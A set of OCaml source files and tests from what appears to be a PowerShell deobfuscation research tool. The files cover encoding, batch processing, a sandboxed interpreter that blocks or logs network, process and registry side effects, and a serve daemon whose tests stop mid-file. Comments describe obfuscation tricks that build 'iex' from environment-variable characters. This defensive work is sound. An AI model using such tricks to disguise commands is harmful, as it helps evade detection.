    Alcotest.test_case "clean means full strength" `Quick
      test_clean_means_full_strength;
    Alcotest.test_case "chaos verify.diff forces rollback" `Quick
      test_chaos_verify_diff_forces_rollback;
    Alcotest.test_case "chaos verify.diff contained" `Quick
      test_chaos_verify_diff_contained;
    Alcotest.test_case "chaos verify.diff batch contained" `Quick
      test_chaos_verify_batch_contained;
  ]
