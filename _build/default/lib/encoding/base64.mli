(** RFC 4648 base64, as used by [\[Convert\]::ToBase64String] /
    [FromBase64String] and PowerShell's [-EncodedCommand]. *)

val encode : string -> string
(** Standard alphabet with [=] padding. *)

val decode : string -> (string, string) result
(** Decodes, ignoring ASCII whitespace, accepting missing padding.
    [Error _] describes the first invalid character or a truncated
    final group. *)

val decode_exn : string -> string
(** @raise Invalid_argument on invalid input. *)

val is_plausible : string -> bool
(** Heuristic used by obfuscation {e detection}: true when the string is at
    least 16 chars of pure base64 alphabet with valid padding and decodes
    successfully.  (Detection only; recovery always uses {!decode}.) *)
