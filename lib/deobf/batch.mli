(** Crash-isolated batch processing — the shape of the paper's Table II
    corpus runs and of any future service: one hanging or crashing sample is
    contained by its own deadline and recorded in a per-file JSON failure
    report, and the batch continues. *)

type outcome = {
  file : string;  (** input path *)
  output_file : string option;  (** where the recovered text was written *)
  wall_ms : float;
  iterations : int;
  changed : bool;
  failures : Engine.failure_site list;  (** empty when the file ran clean *)
  stats : Recover.stats;
}

type summary = {
  total : int;
  clean : int;  (** files with no contained failures *)
  degraded : int;  (** files that finished with contained failures *)
  wall_ms : float;
  outcomes : outcome list;  (** in processing order *)
}

val process_file :
  ?options:Engine.options ->
  ?timeout_s:float ->
  ?max_output_bytes:int ->
  ?out_dir:string ->
  string ->
  outcome
(** Run one file through {!Engine.run_guarded} under its own deadline.
    Never raises: unreadable files and crashing samples come back as an
    outcome with failures.  With [out_dir], the recovered text is written
    to [out_dir/<basename>] and, when the file degraded, a failure report
    to [out_dir/<basename>.failures.json]. *)

val run_files :
  ?options:Engine.options ->
  ?timeout_s:float ->
  ?max_output_bytes:int ->
  ?out_dir:string ->
  string list ->
  summary

val run_dir :
  ?options:Engine.options ->
  ?timeout_s:float ->
  ?max_output_bytes:int ->
  ?out_dir:string ->
  string ->
  summary
(** Process every regular file in a directory, in sorted order.  With
    [out_dir], also writes [out_dir/batch_report.json]. *)

val outcome_to_json : outcome -> string
val summary_to_json : summary -> string
