(* Edge-case tests for operator semantics (Ops) — the coercion corners that
   decide whether recovery results are faithful. *)

module Value = Psvalue.Value
module Ops = Pseval.Ops
module A = Psast.Ast

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

let str s = Value.Str s
let int n = Value.Int n
let arr l = Value.Arr (Array.of_list l)

let test_add_coercions () =
  check_s "str+int" "a5" (Value.to_string (Ops.add (str "a") (int 5)));
  check_i "int+str" 10 (Value.to_int (Ops.add (int 5) (str "5")));
  check_b "int+bad str raises" true
    (match Ops.add (int 1) (str "xyz") with
    | exception Psvalue.Value.Conversion_error _ -> true
    | _ -> false);
  check_s "char+str" "ab" (Value.to_string (Ops.add (Value.Char 'a') (str "b")));
  check_b "float propagates" true
    (match Ops.add (int 1) (Value.Float 0.5) with
    | Value.Float f -> f = 1.5
    | _ -> false);
  check_i "array append length" 3
    (match Ops.add (arr [ int 1; int 2 ]) (int 3) with
    | Value.Arr a -> Array.length a
    | _ -> -1);
  check_i "array concat" 4
    (match Ops.add (arr [ int 1 ]) (arr [ int 2; int 3; int 4 ]) with
    | Value.Arr a -> Array.length a
    | _ -> -1);
  check_b "null+x adopts rhs type" true
    (Value.to_string (Ops.add Value.Null (str "x")) = "x")

let test_multiply () =
  check_s "string replication" "ababab"
    (Value.to_string (Ops.multiply (str "ab") (int 3)));
  check_s "replication by string count" "aa"
    (Value.to_string (Ops.multiply (str "a") (str "2")));
  check_b "negative replication raises" true
    (match Ops.multiply (str "a") (int (-1)) with
    | exception Ops.Op_error _ -> true
    | _ -> false);
  check_i "array replication" 6
    (match Ops.multiply (arr [ int 1; int 2 ]) (int 3) with
    | Value.Arr a -> Array.length a
    | _ -> -1)

let test_divide_kinds () =
  check_b "int/int exact" true (Ops.divide (int 8) (int 2) = int 4);
  check_b "int/int inexact is float" true
    (match Ops.divide (int 7) (int 2) with Value.Float f -> f = 3.5 | _ -> false)

let test_range () =
  check_i "ascending length" 5
    (match Ops.range 1000 (int 1) (int 5) with
    | Value.Arr a -> Array.length a
    | _ -> -1);
  check_b "descending" true
    (match Ops.range 1000 (int 3) (int 1) with
    | Value.Arr [| a; b; c |] -> (a, b, c) = (int 3, int 2, int 1)
    | _ -> false);
  check_b "cap enforced" true
    (match Ops.range 10 (int 1) (int 100) with
    | exception Ops.Op_error _ -> true
    | _ -> false)

let test_indexing () =
  check_b "negative string index" true
    (Ops.index_value (str "abc") (int (-1)) = Value.Char 'c');
  check_b "array negative" true
    (Ops.index_value (arr [ int 1; int 2 ]) (int (-2)) = int 1);
  check_b "out of range null" true
    (Ops.index_value (arr [ int 1 ]) (int 9) = Value.Null);
  check_b "hash key caseless" true
    (Ops.index_value (Value.Hash [ (str "Key", int 7) ]) (str "KEY") = int 7);
  check_b "slice of string yields chars" true
    (match Ops.index_value (str "abcd") (arr [ int 0; int 2 ]) with
    | Value.Arr [| Value.Char 'a'; Value.Char 'c' |] -> true
    | _ -> false)

let test_like_wildcards () =
  check_b "star" true (Ops.like_match ~case_sensitive:false "evil.ps1" "*.ps1");
  check_b "question" true (Ops.like_match ~case_sensitive:false "cat" "c?t");
  check_b "anchored" false (Ops.like_match ~case_sensitive:false "xcat" "c?t");
  check_b "case" false (Ops.like_match ~case_sensitive:true "CAT" "cat")

let test_comparison_array_filter () =
  match Ops.comparison A.Gt None (arr [ int 1; int 5; int 3 ]) (int 2) with
  | Value.Arr a ->
      check_i "filtered" 2 (Array.length a);
      check_b "values" true (a.(0) = int 5 && a.(1) = int 3)
  | _ -> Alcotest.fail "expected array"

let test_replace_op_behaviours () =
  check_s "regex groups" "b.a"
    (Value.to_string (Ops.replace_op None (str "a@b") (arr [ str "(\\w)@(\\w)"; str "$2.$1" ])));
  check_s "deletion with single arg" "ac"
    (Value.to_string (Ops.replace_op None (str "abc") (str "b")));
  check_b "applies across array lhs" true
    (match Ops.replace_op None (arr [ str "xa"; str "xb" ]) (arr [ str "x"; str "y" ]) with
    | Value.Arr [| Value.Str "ya"; Value.Str "yb" |] -> true
    | _ -> false)

let test_join_unary_and_binary () =
  check_s "binary" "a-b" (Value.to_string (Ops.join_op (arr [ str "a"; str "b" ]) (str "-")));
  check_s "unary" "ab" (Value.to_string (Ops.unary_join (arr [ str "a"; str "b" ])));
  check_s "join scalar" "x" (Value.to_string (Ops.join_op (str "x") (str "-")))

let test_bitwise_ops () =
  check_b "band" true (Ops.bitwise A.Band (int 6) (int 3) = int 2);
  check_b "bxor strings" true (Ops.bitwise A.Bxor (str "12") (str "0x0a") = int 6)

let test_contains_in () =
  check_b "contains" true
    (Ops.contains_op ~negate:false (arr [ str "A" ]) (str "a") = Value.Bool true);
  check_b "notin" true
    (Ops.in_op ~negate:true (int 9) (arr [ int 1 ]) = Value.Bool true)

let test_type_matches () =
  check_b "int" true (Ops.type_matches "int" (int 1));
  check_b "string" true (Ops.type_matches "System.String" (str "x"));
  check_b "mismatch" false (Ops.type_matches "int" (str "x"))

let suite =
  [
    ("add coercions", `Quick, test_add_coercions);
    ("multiply", `Quick, test_multiply);
    ("divide kinds", `Quick, test_divide_kinds);
    ("range", `Quick, test_range);
    ("indexing", `Quick, test_indexing);
    ("like wildcards", `Quick, test_like_wildcards);
    ("comparison array filter", `Quick, test_comparison_array_filter);
    ("replace op", `Quick, test_replace_op_behaviours);
    ("join", `Quick, test_join_unary_and_binary);
    ("bitwise", `Quick, test_bitwise_ops);
    ("contains/in", `Quick, test_contains_in);
    ("type matches", `Quick, test_type_matches);
  ]
