(** RFC 1951 DEFLATE compression.

    A greedy LZ77 matcher over a 32 KiB window with hash chains, emitted as
    one fixed-Huffman block — the encoder side of DeflateStream obfuscation.
    Output always round-trips through {!Inflate.inflate}. *)

val deflate : string -> string
(** Compress to a raw DEFLATE stream (no zlib/gzip wrapper). *)

val deflate_stored : string -> string
(** Compress as stored (uncompressed) blocks only; useful as a reference
    encoder in tests. *)
