lib/baselines/all_tools.ml: Deobf Li_etal List Powerdecode Powerdrive Pscommon Psdecode Tool
