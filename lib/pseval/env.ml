(** Evaluation environment: variable scopes, effect events, limits.

    Two modes share one interpreter:
    {ul
    {- [Recovery] — used by the deobfuscator's Invoke-based recovery.  Any
       side effect (network, file, process, registry, sleep) raises
       {!Blocked}; the deobfuscator then keeps the obfuscated piece, exactly
       as the paper's blocklist does.}
    {- [Sandbox] — used for behavioural-consistency experiments.  Side
       effects are recorded as events and return synthetic results, like the
       TianQiong sandbox the paper uses.}} *)

open Pscommon

type mode = Recovery | Sandbox

type event =
  | Dns_query of string
  | Tcp_connect of string * int
  | Http_get of string  (** DownloadString / Invoke-WebRequest *)
  | Http_download of string * string  (** url, destination path *)
  | File_write of string
  | File_read of string
  | Process_start of string
  | Registry_write of string
  | Sleep of float

let event_to_string = function
  | Dns_query h -> Printf.sprintf "dns:%s" h
  | Tcp_connect (h, p) -> Printf.sprintf "tcp:%s:%d" h p
  | Http_get u -> Printf.sprintf "http-get:%s" u
  | Http_download (u, p) -> Printf.sprintf "http-download:%s->%s" u p
  | File_write p -> Printf.sprintf "file-write:%s" p
  | File_read p -> Printf.sprintf "file-read:%s" p
  | Process_start c -> Printf.sprintf "process:%s" c
  | Registry_write k -> Printf.sprintf "registry:%s" k
  | Sleep s -> Printf.sprintf "sleep:%g" s

exception Blocked of string
(** Raised in [Recovery] mode when execution would produce a side effect. *)

exception Eval_error of string
exception Limit_exceeded of string

type limits = {
  max_steps : int;
  max_invoke_depth : int;  (** nested Invoke-Expression layers *)
  max_collection : int;  (** range / array size cap *)
  max_string_bytes : int;  (** cap on any single string value built *)
  deadline : float;
      (** absolute wall-clock bound (epoch seconds, [infinity] = none);
          polled by {!tick}, so runaway decode loops stop on time, not just
          on steps *)
}

let default_limits =
  { max_steps = 2_000_000; max_invoke_depth = 32; max_collection = 1_000_000;
    max_string_bytes = 32 * 1024 * 1024; deadline = Guard.no_deadline }

(* map evaluator limits into the guard taxonomy without a dependency cycle *)
let () =
  Guard.register_classifier (function
    | Limit_exceeded m -> Some (Guard.Interpreter_limit m)
    | _ -> None)

type scope = { table : (string, Psvalue.Value.t) Hashtbl.t }

type fn = { fn_params : string list; fn_body : Psast.Ast.t }

type t = {
  mutable scopes : scope list;  (** innermost first; last is global *)
  functions : (string, fn) Hashtbl.t;  (** keys lowercased *)
  env_vars : (string, string) Hashtbl.t;  (** simulated $env: drive *)
  mode : mode;
  limits : limits;
  mutable steps : int;
  mutable invoke_depth : int;
  mutable events : event list;  (** reverse order *)
  mutable command_log : string list;
      (** commands the interpreter could not resolve, with stringified args
          (reverse order).  [Sandbox] only: recovery-mode piece execution
          must stay effect-free so memoized piece results never carry (or
          replay) observations — see {!log_command}. *)
  mutable output_sink : Psvalue.Value.t list;  (** Write-Host capture, reverse *)
  mutable downloads_fail : bool;
      (** wild samples' C2 servers are dead: when set, network fetches
          record their event and then raise, like a timed-out WebClient.
          Tools that execute samples for real run in this mode. *)
  mutable iex_hook : (literal:bool -> string -> bool) option;
      (** overriding-function simulation: called with each string handed to
          Invoke-Expression.  [literal] is true when the command was spelled
          out (an override installed by text replacement only fires then).
          Returning [true] consumes the payload — execution is skipped, as
          an override that prints instead of executing would. *)
  mutable provenance : Provenance.t option;
      (** when installed, the interpreter stamps each variable write with
          its defining extent / step / dependency set — the dynamic
          recovery plane.  [None] (the default) costs one load per write. *)
}

let new_scope () = { table = Hashtbl.create 16 }

(* Simulated Windows environment, enough for the $env / $pshome index tricks
   obfuscators rely on ($pshome[4]+$pshome[30]+'x' = 'iex', comspec[4,24,25]
   = 'iex', …). *)
let default_env_vars () =
  let t = Hashtbl.create 16 in
  List.iter
    (fun (k, v) -> Hashtbl.replace t (Strcase.lower k) v)
    [
      ("comspec", "C:\\WINDOWS\\system32\\cmd.exe");
      ("windir", "C:\\WINDOWS");
      ("systemroot", "C:\\WINDOWS");
      ("temp", "C:\\Users\\user\\AppData\\Local\\Temp");
      ("tmp", "C:\\Users\\user\\AppData\\Local\\Temp");
      ("public", "C:\\Users\\Public");
      ("userprofile", "C:\\Users\\user");
      ("username", "user");
      ("computername", "DESKTOP-USER");
      ("programdata", "C:\\ProgramData");
      ("appdata", "C:\\Users\\user\\AppData\\Roaming");
      ("localappdata", "C:\\Users\\user\\AppData\\Local");
      ("psmodulepath", "C:\\Users\\user\\Documents\\WindowsPowerShell\\Modules");
      ("path", "C:\\WINDOWS\\system32;C:\\WINDOWS");
      ("processor_architecture", "AMD64");
    ];
  t

let automatic_variables =
  [
    ("true", Psvalue.Value.Bool true);
    ("false", Psvalue.Value.Bool false);
    ("null", Psvalue.Value.Null);
    ("pshome", Psvalue.Value.Str "C:\\Windows\\System32\\WindowsPowerShell\\v1.0");
    ("shellid", Psvalue.Value.Str "Microsoft.PowerShell");
    ("home", Psvalue.Value.Str "C:\\Users\\user");
    ("pid", Psvalue.Value.Int 4242);
    ("pwd", Psvalue.Value.Str "C:\\Users\\user");
    ("verbosepreference", Psvalue.Value.Str "SilentlyContinue");
    ("erroractionpreference", Psvalue.Value.Str "Continue");
    ("psversiontable", Psvalue.Value.Hash [ (Psvalue.Value.Str "PSVersion", Psvalue.Value.Str "5.1.19041") ]);
    ("psculture", Psvalue.Value.Str "en-US");
    ("psuiculture", Psvalue.Value.Str "en-US");
  ]

let create ?(mode = Recovery) ?(limits = default_limits) () =
  let global = new_scope () in
  List.iter (fun (k, v) -> Hashtbl.replace global.table k v) automatic_variables;
  (* an enclosing Guard.protect bounds every evaluator created under it *)
  let limits =
    { limits with deadline = Float.min limits.deadline (Guard.ambient_deadline ()) }
  in
  {
    scopes = [ global ];
    functions = Hashtbl.create 8;
    env_vars = default_env_vars ();
    mode;
    limits;
    steps = 0;
    invoke_depth = 0;
    events = [];
    command_log = [];
    output_sink = [];
    downloads_fail = false;
    iex_hook = None;
    provenance = None;
  }

let tick env =
  env.steps <- env.steps + 1;
  if env.steps > env.limits.max_steps then
    raise (Limit_exceeded "step budget exhausted");
  (* polling the clock every step would dominate the hot loop; every 2048
     steps keeps deadline latency in the microseconds *)
  if env.steps land 2047 = 0 then Guard.check env.limits.deadline

(* Bulk step accounting for pre-folded constant subtrees: the compiled form
   replays the steps its folded subtree would have consumed, so step budgets
   observe identical totals whether or not folding happened.  The deadline
   is polled iff the bulk add crossed a 2048-step boundary — the same
   boundaries [tick] itself would have hit. *)
let tick_n env n =
  if n > 0 then begin
    let before = env.steps in
    env.steps <- env.steps + n;
    if env.steps > env.limits.max_steps then
      raise (Limit_exceeded "step budget exhausted");
    if env.steps lsr 11 <> before lsr 11 then Guard.check env.limits.deadline
  end

let check_size env (v : Psvalue.Value.t) =
  match v with
  | Psvalue.Value.Str s ->
      if String.length s > env.limits.max_string_bytes then
        raise
          (Limit_exceeded
             (Printf.sprintf "string of %d bytes exceeds max_string_bytes"
                (String.length s)))
  | Psvalue.Value.Arr a ->
      if Array.length a > env.limits.max_collection then
        raise
          (Limit_exceeded
             (Printf.sprintf "collection of %d elements exceeds max_collection"
                (Array.length a)))
  | _ -> ()

let record env ev =
  match env.mode with
  | Sandbox -> env.events <- ev :: env.events
  | Recovery -> raise (Blocked (event_to_string ev))

let events env = List.rev env.events

(* Sandbox-only by construction: in Recovery mode unknown commands fail the
   piece instead, so a cached piece result can never hold a command
   observation that a cache hit would fail to (or doubly) replay. *)
let log_command env name args =
  match env.mode with
  | Sandbox ->
      let line =
        match args with
        | [] -> name
        | args -> name ^ " " ^ String.concat " " args
      in
      env.command_log <- line :: env.command_log
  | Recovery -> ()

let commands env = List.rev env.command_log

(* ---------- variables ---------- *)

let split_drive name =
  match String.index_opt name ':' with
  | Some i ->
      Some (Strcase.lower (String.sub name 0 i),
            String.sub name (i + 1) (String.length name - i - 1))
  | None -> None

let rec lookup_in scopes key =
  match scopes with
  | [] -> None
  | s :: rest -> (
      match Hashtbl.find_opt s.table key with
      | Some v -> Some v
      | None -> lookup_in rest key)

let get_var env name =
  match split_drive name with
  | Some ("env", rest) -> (
      match Hashtbl.find_opt env.env_vars (Strcase.lower rest) with
      | Some s -> Some (Psvalue.Value.Str s)
      | None -> Some Psvalue.Value.Null)
  | Some (("global" | "script" | "local" | "private" | "variable"), rest) ->
      lookup_in env.scopes (Strcase.lower rest)
  | Some (_, _) -> None
  | None -> lookup_in env.scopes (Strcase.lower name)

let set_var env name value =
  match split_drive name with
  | Some ("env", rest) ->
      Hashtbl.replace env.env_vars (Strcase.lower rest)
        (Psvalue.Value.to_string value)
  | Some (("global" | "script"), rest) -> (
      match List.rev env.scopes with
      | global :: _ -> Hashtbl.replace global.table (Strcase.lower rest) value
      | [] -> assert false)
  | Some (("local" | "private" | "variable"), rest) -> (
      match env.scopes with
      | s :: _ -> Hashtbl.replace s.table (Strcase.lower rest) value
      | [] -> assert false)
  | Some (_, _) | None -> (
      let key = Strcase.lower name in
      (* PowerShell assignment updates an existing visible variable, or
         creates it in the current scope *)
      let rec find_scope = function
        | [] -> None
        | s :: rest ->
            if Hashtbl.mem s.table key then Some s else find_scope rest
      in
      match find_scope env.scopes with
      | Some s -> Hashtbl.replace s.table key value
      | None -> (
          match env.scopes with
          | s :: _ -> Hashtbl.replace s.table key value
          | [] -> assert false))

let push_scope env = env.scopes <- new_scope () :: env.scopes

let pop_scope env =
  match env.scopes with
  | _ :: (_ :: _ as rest) -> env.scopes <- rest
  | _ -> ()

let with_scope env f =
  push_scope env;
  match f () with
  | result ->
      pop_scope env;
      result
  | exception e ->
      pop_scope env;
      raise e

(* ---------- functions ---------- *)

let define_function env name fn =
  Hashtbl.replace env.functions (Strcase.lower name) fn

let find_function env name = Hashtbl.find_opt env.functions (Strcase.lower name)

(* ---------- output sink (Write-Host etc.) ---------- *)

let sink env v = env.output_sink <- v :: env.output_sink
let sunk_output env = List.rev env.output_sink

(* ---------- final bindings (verification) ---------- *)

(* Global bindings the script itself established, sorted by name.  Automatic
   variables are skipped unless the script overwrote them — the comparison
   baseline of an empty session is noise, a changed preference variable is a
   behaviour. *)
let global_bindings env =
  match List.rev env.scopes with
  | [] -> []
  | global :: _ ->
      Hashtbl.fold
        (fun name value acc ->
          if name = "_" || name = "input" then
            (* pipeline cursors ($_, $input): interpreter plumbing whose
               residue depends on whether a pipeline was folded away, not
               script state *)
            acc
          else
            match List.assoc_opt name automatic_variables with
            | Some seeded when seeded = value -> acc
            | Some _ | None -> (name, value) :: acc)
        global.table []
      |> List.sort (fun (a, _) (b, _) -> String.compare a b)

(* ---------- binding fingerprints (recovery memoization) ---------- *)

(* A scalar binding set admits a stable content fingerprint; compound
   values (arrays, streams, script blocks) are mutable or carry hidden
   state, so a table containing one cannot be fingerprinted soundly. *)
let scalar_fingerprint buf (v : Psvalue.Value.t) =
  match v with
  | Psvalue.Value.Null -> Buffer.add_char buf 'N'; true
  | Psvalue.Value.Bool b -> Buffer.add_char buf (if b then 'T' else 'F'); true
  | Psvalue.Value.Int n ->
      Buffer.add_char buf 'i';
      Buffer.add_string buf (string_of_int n);
      true
  | Psvalue.Value.Float f ->
      Buffer.add_char buf 'f';
      Buffer.add_string buf (Printf.sprintf "%h" f);
      true
  | Psvalue.Value.Char c ->
      Buffer.add_char buf 'c';
      Buffer.add_char buf c;
      true
  | Psvalue.Value.Str s ->
      Buffer.add_char buf 's';
      Buffer.add_string buf (string_of_int (String.length s));
      Buffer.add_char buf ':';
      Buffer.add_string buf s;
      true
  | Psvalue.Value.Arr _ | Psvalue.Value.Hash _ | Psvalue.Value.Script_block _
  | Psvalue.Value.Secure_string _ | Psvalue.Value.Obj _ ->
      false

let bindings_digest bindings =
  let buf = Buffer.create 256 in
  let all_scalar =
    List.for_all
      (fun (name, value) ->
        Buffer.add_string buf (Pscommon.Strcase.lower name);
        Buffer.add_char buf '=';
        let ok = scalar_fingerprint buf value in
        Buffer.add_char buf ';';
        ok)
      bindings
  in
  if all_scalar then Some (Digest.string (Buffer.contents buf)) else None
