lib/deobf/engine.mli: Recover
