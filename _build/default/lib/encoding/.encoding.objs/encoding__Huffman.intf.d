lib/encoding/huffman.mli: Bitstream
