(* Tests for the serve daemon: NDJSON round-trips, bounded-queue admission
   control under flood, per-request deadline isolation, chaos containment
   at the socket edges, graceful drain, and the warm piece cache.  The
   standing contract: every request line is answered by exactly one
   response line (report, overloaded, or error) and the daemon never
   dies. *)

module Serve = Deobf.Serve
module Jsonl = Deobf.Jsonl
module Chaos = Pscommon.Chaos

let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)
let check_s = Alcotest.(check string)

let with_chaos cfg f =
  Chaos.set (Some cfg);
  Fun.protect ~finally:(fun () -> Chaos.set None) f

let with_temp_dir name f =
  let dir =
    Filename.concat (Filename.get_temp_dir_name ())
      (Printf.sprintf "serve-%s-%d" name (Unix.getpid ()))
  in
  let rec rm path =
    if Sys.is_directory path then begin
      Array.iter (fun n -> rm (Filename.concat path n)) (Sys.readdir path);
      Sys.rmdir path
    end
    else Sys.remove path
  in
  if Sys.file_exists dir then rm dir;
  Sys.mkdir dir 0o755;
  Fun.protect
    ~finally:(fun () -> if Sys.file_exists dir then rm dir)
    (fun () -> f dir)

(* start a daemon on a fresh unix socket, run the test body, and always
   drain + join afterwards so no domain outlives the test *)
let with_server name cfg_of f =
  with_temp_dir name @@ fun dir ->
  let sock = Filename.concat dir "d.sock" in
  match Serve.start (cfg_of (Serve.Unix_sock sock)) with
  | Error e -> Alcotest.failf "start: %s" e
  | Ok server ->
      let code =
        Fun.protect
          ~finally:(fun () -> Serve.stop server)
          (fun () -> f sock server)
        |> fun () -> Serve.wait server
      in
      check_i "graceful drain exits 0" 0 code

(* ---------- tiny NDJSON client ---------- *)

let connect path =
  let fd = Unix.socket Unix.PF_UNIX Unix.SOCK_STREAM 0 in
  Unix.connect fd (Unix.ADDR_UNIX path);
  fd

let send_all fd s =
  let n = String.length s in
  let rec go off =
    if off < n then go (off + Unix.write_substring fd s off (n - off))
  in
  go 0

exception Closed

(* read until [n] complete lines arrived (or the deadline passes, letting
   the count assertions below produce a readable failure) *)
let read_lines ?(deadline_s = 60.0) fd n =
  let deadline = Unix.gettimeofday () +. deadline_s in
  let buf = Buffer.create 4096 in
  let bytes = Bytes.create 65536 in
  let lines () =
    List.filter
      (fun l -> l <> "")
      (String.split_on_char '\n' (Buffer.contents buf))
  in
  (try
     while
       List.length (lines ()) < n && Unix.gettimeofday () < deadline
     do
       match Unix.select [ fd ] [] [] 0.2 with
       | [], _, _ -> ()
       | _ -> (
           match Unix.read fd bytes 0 (Bytes.length bytes) with
           | 0 -> raise Closed
           | r -> Buffer.add_subbytes buf bytes 0 r
           | exception Unix.Unix_error _ ->
               (* a reset still leaves what already arrived in [buf] *)
               raise Closed)
     done
   with Closed -> ());
  lines ()

let request ?id ?op ?script ?timeout_s ?verify () =
  let field k v = Printf.sprintf "\"%s\": %s" k v in
  let fields =
    List.filter_map Fun.id
      [
        Option.map (fun i -> field "id" (Deobf.Report.json_string i)) id;
        Option.map (fun o -> field "op" (Deobf.Report.json_string o)) op;
        Option.map
          (fun s -> field "script" (Deobf.Report.json_string s))
          script;
        Option.map (fun t -> field "timeout_s" (Printf.sprintf "%g" t)) timeout_s;
        Option.map (fun v -> field "verify" (string_of_bool v)) verify;
      ]
  in
  "{" ^ String.concat ", " fields ^ "}\n"

let response_for lines id =
  match
    List.find_opt (fun l -> Jsonl.string_field l "id" = Some id) lines
  with
  | Some l -> l
  | None -> Alcotest.failf "no response for id %s in %d line(s)" id (List.length lines)

let status_of line =
  Option.value ~default:"?" (Jsonl.string_field line "status")

(* the decode-piece sample: its Invoke-Expression argument is a piece the
   engine executes and replaces, so the piece cache sees real traffic *)
let piece_script = "$x = 'he' + 'llo'; Invoke-Expression ('Write-Output ' + $x)"

(* a wall-clock bomb: an infinite loop the interpreter can only contain by
   deadline — exercises per-request budget isolation *)
let bomb_script = "$x = $(while (1 -lt 2) { 1 }; 'done')"

(* ---------- round trips ---------- *)

let test_roundtrip () =
  with_server "rt"
    (fun bind -> { (Serve.default_config bind) with Serve.jobs = 1 })
    (fun sock _server ->
      let fd = connect sock in
      Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
      send_all fd (request ~id:"r1" ~script:piece_script ());
      let lines = read_lines fd 1 in
      let r = response_for lines "r1" in
      check_s "status ok" "ok" (status_of r);
      (match Jsonl.string_field r "output" with
      | Some out -> check_b "output changed" true (out <> piece_script)
      | None -> Alcotest.fail "missing output");
      check_b "report embedded" true
        (Jsonl.string_field r "file" = Some "req-1"))

let test_health_and_metrics () =
  with_server "hm"
    (fun bind -> { (Serve.default_config bind) with Serve.jobs = 1 })
    (fun sock _server ->
      let fd = connect sock in
      Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
      send_all fd (request ~id:"h" ~op:"health" ());
      send_all fd (request ~id:"m" ~op:"metrics" ());
      let lines = read_lines fd 2 in
      let h = response_for lines "h" in
      check_s "health ok" "ok" (status_of h);
      check_s "health state" "serving"
        (Option.value ~default:"?" (Jsonl.string_field h "state"));
      check_b "health queue depth present" true
        (Jsonl.int_field h "queue_depth" <> None);
      let m = response_for lines "m" in
      check_s "metrics ok" "ok" (status_of m);
      check_b "metrics payload has counters" true
        (Jsonl.field_start m "counters" <> None))

let test_malformed_and_unknown () =
  with_server "bad"
    (fun bind -> { (Serve.default_config bind) with Serve.jobs = 1 })
    (fun sock _server ->
      let fd = connect sock in
      Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
      (* no script/path, an unknown op, and unparseable junk: one error
         response each, and the connection survives all three *)
      send_all fd (request ~id:"e1" ());
      send_all fd (request ~id:"e2" ~op:"frobnicate" ());
      send_all fd "this is not json\n";
      send_all fd (request ~id:"ok" ~op:"health" ());
      let lines = read_lines fd 4 in
      check_i "four responses" 4 (List.length lines);
      check_s "missing source is an error" "error"
        (status_of (response_for lines "e1"));
      check_s "unknown op is an error" "error"
        (status_of (response_for lines "e2"));
      check_s "daemon still serving" "ok"
        (status_of (response_for lines "ok")))

(* ---------- admission control ---------- *)

let test_overload_shed () =
  with_server "shed"
    (fun bind ->
      { (Serve.default_config bind) with Serve.jobs = 1; queue_cap = 2 })
    (fun sock _server ->
      let fd = connect sock in
      Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
      let n = 12 in
      let payload = Buffer.create 1024 in
      for i = 1 to n do
        Buffer.add_string payload
          (request ~id:(Printf.sprintf "f%d" i) ~script:bomb_script
             ~timeout_s:0.4 ())
      done;
      send_all fd (Buffer.contents payload);
      let lines = read_lines fd n in
      check_i "every request answered" n (List.length lines);
      let statuses =
        List.init n (fun i ->
            status_of (response_for lines (Printf.sprintf "f%d" (i + 1))))
      in
      List.iter
        (fun s ->
          check_b ("status classified: " ^ s) true
            (List.mem s [ "ok"; "degraded"; "overloaded"; "error" ]))
        statuses;
      let shed = List.length (List.filter (( = ) "overloaded") statuses) in
      check_b "queue bound sheds under flood" true (shed > 0);
      (* shed responses carry the backoff hint *)
      let shed_line =
        List.find (fun l -> status_of l = "overloaded") lines
      in
      check_b "retry_after_ms present" true
        (match Jsonl.int_field shed_line "retry_after_ms" with
        | Some ms -> ms >= 10 && ms <= 10_000
        | None -> false);
      (* the daemon survives the flood *)
      let fd2 = connect sock in
      Fun.protect ~finally:(fun () -> Unix.close fd2) @@ fun () ->
      send_all fd2 (request ~id:"alive" ~op:"health" ());
      check_s "daemon alive after flood" "ok"
        (status_of (response_for (read_lines fd2 1) "alive")))

(* ---------- per-request deadline isolation ---------- *)

let test_deadline_isolation () =
  with_server "deadline"
    (fun bind -> { (Serve.default_config bind) with Serve.jobs = 2 })
    (fun sock _server ->
      let fd = connect sock in
      Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
      send_all fd (request ~id:"bomb" ~script:bomb_script ~timeout_s:0.3 ());
      send_all fd (request ~id:"clean" ~script:piece_script ());
      let lines = read_lines fd 2 in
      check_i "both answered" 2 (List.length lines);
      let bomb = response_for lines "bomb" in
      (* the bomb's budget fired: either the ladder degraded it (report
         with failures) or the outer guard answered with a structured
         timeout — never silence, never a daemon crash *)
      check_b "bomb contained" true
        (List.mem (status_of bomb) [ "degraded"; "error" ]);
      let clean = response_for lines "clean" in
      check_s "neighbour unaffected" "ok" (status_of clean))

(* ---------- chaos containment at the socket edges ---------- *)

let serve_sites rate =
  [ ("serve.accept", rate); ("serve.read", rate); ("serve.write", rate);
    ("serve.queue", rate) ]

let test_chaos_flood () =
  (* the acceptance drill: all four serve.* probes firing at 10%, load at
     2x the queue bound — zero daemon crashes, every request answered,
     drain still exits 0 (checked by with_server) *)
  with_chaos { Chaos.seed = 7; rate = 0.0; site_rates = serve_sites 0.1 }
  @@ fun () ->
  with_server "chaos"
    (fun bind ->
      { (Serve.default_config bind) with Serve.jobs = 2; queue_cap = 4 })
    (fun sock _server ->
      let fd = connect sock in
      Fun.protect ~finally:(fun () -> Unix.close fd) @@ fun () ->
      let n = 8 (* 2x queue_cap *) in
      let payload = Buffer.create 1024 in
      for i = 1 to n do
        Buffer.add_string payload
          (request ~id:(Printf.sprintf "c%d" i) ~script:piece_script ())
      done;
      send_all fd (Buffer.contents payload);
      let lines = read_lines fd n in
      check_i "every request answered under injection" n (List.length lines);
      for i = 1 to n do
        let s = status_of (response_for lines (Printf.sprintf "c%d" i)) in
        check_b
          (Printf.sprintf "c%d classified (%s)" i s)
          true
